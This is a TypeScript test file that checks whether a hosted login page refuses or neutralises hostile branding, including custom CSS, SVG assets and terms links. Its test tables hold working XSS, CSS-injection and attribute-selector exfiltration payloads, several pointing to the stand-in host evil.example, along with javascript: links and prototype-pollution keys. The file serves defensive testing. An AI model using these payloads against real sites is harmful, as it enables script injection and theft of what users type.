import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { findBrand } from '../../src/hosted-ui/branding.ts'
import { type Brand, defaultBrand } from '../../src/hosted-ui/view.ts'
import * as appClients from '../../src/storage/app-clients.ts'
import * as loginBrandings from '../../src/storage/login-brandings.ts'
import * as uiCustomizations from '../../src/storage/ui-customizations.ts'
import { databases, startTestServer, type TestServer } from '../support/server.ts'
import { createTestPool, type TestPool } from '../support/user-pool.ts'

const EVIL = 'https://evil.example'
const invalid = { name: 'InvalidParameterException' }

/** Style sheets of the classic pages that try to leave their element, to load something, or to reach other elements. */
const styleSheets: [what: string, css: string][] = [
  ['ends its element', `.label-customizable{color:red}</style><script src="${EVIL}"></script>`],
  ['ends its element in a string', '.label-customizable{content:"</style><img src=x onerror=alert(1)>"}'],
  ['ends its element in a comment', '/*</style><script>alert(1)</script>*/.label-customizable{color:red}'],
  ['opens a comment of HTML', '<!-- .label-customizable{color:red} -->'],
  ['imports', `@import url("${EVIL}/x.css"); .label-customizable{color:red}`],
  ['imports by escapes', `@\\69mport "${EVIL}"; .label-customizable{color:red}`],
  ['has a font', `@font-face{font-family:x;src:url(${EVIL})} .label-customizable{font-family:x}`],
  ['runs an expression', '.label-customizable{width:expression(alert(1))}'],
  ['runs a script', '.label-customizable{background:url("javascript:alert(1)")}'],
  ['binds a script', `.label-customizable{-moz-binding:url(${EVIL}/x.xml#a)}`],
  ['loads an image', `.inputField-customizable:focus{background:url(${EVIL}/seen)}`],
  ['loads an image by escapes', `.label-customizable{background:u\\72l(${EVIL})}`],
  ['loads an image of a set', `.label-customizable{background:image-set("${EVIL}" 1x)}`],
  ['reads what is typed', `.inputField-customizable[value^="a"]{background:url(${EVIL}/a)}`],
  ['reaches other elements', '.label-customizable,body{display:none}'],
  ['reaches descendants', '.banner-customizable ~ form{display:none}'],
  ['hides a rule between strings', '.label-customizable{content:"/*"}body{display:none}.x{top:"*/"}'],
  ['nests a rule', '.label-customizable{body &{display:none}}'],
]

const svgs: [what: string, content: string][] = [
  ['a script', '<script>alert(1)</script>'],
  ['a script of another prefix', '<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>'],
  ['a handler', '<path onload="alert(1)"/>'],
  ['foreign content', '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"/></foreignObject>'],
  ['a script address', '<a href="&#106;avascript:alert(1)"><path/></a>'],
  ['an image from elsewhere', `<image href="${EVIL}/x.png"/>`],
  ['a part of another file', `<use href="${EVIL}/x.svg#a"/>`],
  ['a style sheet from elsewhere', `<style>@import "${EVIL}/x.css";</style>`],
  ['a fill from elsewhere', `<path fill="url(${EVIL}/x#a)"/>`],
]

/** What no brand may bring into a page, wherever it stands. */
const harmful =
  /[<\\]|@(?!media \(prefers-color-scheme:dark\)\{)|url\((?!"\/branding\/[\w/-]+"\))|evil|script|expression|binding/i
const reached = /\b(?:form|display|body(?!::|\{background:none\}))/

describe.each(databases)('hostile branding on %s', (kind) => {
  let server: TestServer
  let pool: TestPool
  let clientId: string
  beforeAll(async () => {
    server = await startTestServer(kind)
    pool = await createTestPool(server)
    await pool.call('CreateUserPoolDomain', { Domain: 'hostile' })
    clientId = (await pool.call('CreateUserPoolClient', { ClientName: 'app' })).UserPoolClient.ClientId
  })
  afterAll(() => server.stop())

  async function brand(): Promise<Brand> {
    const found = await appClients.findWithPool(server.services.db, clientId)
    if (!found) throw new Error('the client is missing')
    return (await findBrand(server.services, { client: found.client, lang: 'en' })) ?? defaultBrand
  }

  function expectHarmless({ css }: Brand): void {
    expect(css).not.toMatch(harmful)
    expect(css).not.toMatch(reached)
  }

  it.each(styleSheets)('CSS that %s is refused or harmless', async (_, CSS) => {
    const answer = await pool.call('SetUICustomization', { CSS }).catch((error: Error) => error)
    if (answer instanceof Error) expect(answer).toMatchObject(invalid)
    expectHarmless(await brand())
    await pool.call('SetUICustomization', {})
  })

  it.each(styleSheets)('CSS that %s is harmless even in the database', async (_, css) => {
    const { db } = server.services
    const look = { userPoolId: pool.id, css, version: '1', createdAt: 0, updatedAt: 0 }
    await uiCustomizations.save(db, look)
    expectHarmless(await brand())
    await uiCustomizations.remove(db, pool.id)
  })

  it.each([
    ['a colour', (value: unknown) => ({ components: { pageBackground: { lightMode: { color: value } } } })],
    ['a length', (value: unknown) => ({ componentClasses: { buttons: { borderRadius: value } } })],
    ['a place', (value: unknown) => ({ components: { form: { logo: { location: value } } } })],
    ['a scheme', (value: unknown) => ({ categories: { global: { colorSchemeMode: value } } })],
    ['everything', (value: unknown) => ({ components: value, componentClasses: value, categories: value })],
    [
      'a prototype',
      (value: unknown) => JSON.parse(JSON.stringify({ x: value }).replace('"x"', '"__proto__"')),
    ],
  ])('settings are harmless with CSS as %s', async (_, settingsOf) => {
    for (const value of [
      '</style><script>',
      `red;}body{display:none}`,
      `url(${EVIL})`,
      [],
      {},
      null,
      1e308,
    ]) {
      const style = { ClientId: clientId, Settings: settingsOf(value) }
      const { ManagedLoginBranding } = await pool.call('CreateManagedLoginBranding', style)
      const found = await brand()
      expectHarmless(found)
      expect(['light', 'dark', 'dynamic']).toContain(found.colorScheme)
      const { ManagedLoginBrandingId } = ManagedLoginBranding
      await pool.call('DeleteManagedLoginBranding', { ManagedLoginBrandingId })
    }
  })

  it.each(svgs)('an SVG with %s is refused', async (_, content) => {
    const Bytes = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${content}</svg>`).toString('base64')
    for (const Category of ['FORM_LOGO', 'FAVICON_SVG']) {
      const Assets = [{ Category, ColorMode: 'LIGHT', Extension: 'SVG', Bytes }]
      const style = { ClientId: clientId, UseCognitoProvidedValues: true, Assets }
      await expect(pool.call('CreateManagedLoginBranding', style)).rejects.toMatchObject(invalid)
    }
  })

  it.each(svgs)('an SVG with %s is dead even in the database', async (_, content) => {
    const { db } = server.services
    const asset = {
      category: 'FAVICON_SVG',
      colorMode: 'LIGHT',
      extension: 'SVG',
      bytes: Buffer.from(content),
    }
    const id = '11111111-1111-4111-8111-111111111111'
    const times = { createdAt: 0, updatedAt: 0 }
    await loginBrandings.insert(db, {
      id,
      userPoolId: pool.id,
      appClientId: clientId,
      assets: [asset],
      ...times,
    })
    const response = await fetch(server.url + (await brand()).faviconUrl)
    expect(response.status).toBe(200)
    expect(response.headers.get('content-security-policy')).toBe(
      "default-src 'none'; style-src 'unsafe-inline'; sandbox",
    )
    expect(response.headers.get('x-content-type-options')).toBe('nosniff')
    expect(response.headers.get('content-type')).toBe('image/svg+xml')
    await loginBrandings.remove(db, pool.id, id)
  })

  it.each(['html', 'text/html', '__proto__', 'constructor'])(
    'an asset of the kind %s is no page',
    async (extension) => {
      const { db } = server.services
      const bytes = Buffer.from('<script>alert(1)</script>')
      const asset = { category: 'PAGE_BACKGROUND', colorMode: 'LIGHT', extension, bytes }
      const id = '11111111-1111-4111-8111-111111111111'
      const times = { createdAt: 0, updatedAt: 0 }
      await loginBrandings.insert(db, {
        id,
        userPoolId: pool.id,
        appClientId: clientId,
        assets: [asset],
        ...times,
      })
      const response = await fetch(server.url + (await brand()).backgroundImageUrl)
      expect(response.headers.get('content-type')).toBe('application/octet-stream')
      await loginBrandings.remove(db, pool.id, id)
    },
  )

  it.each(['javascript:alert(1)', 'data:text/html,x', '//evil.example', ' https://evil.example', 'https://'])(
    'terms do not lead to %s',
    async (link) => {
      const document = { ClientId: clientId, TermsSource: 'LINK', Enforcement: 'NONE' }
      const Links = { 'cognito:default': link }
      const terms = { ...document, TermsName: 'terms-of-use', Links }
      await expect(pool.call('CreateTerms', terms)).rejects.toMatchObject(invalid)
    },
  )
})
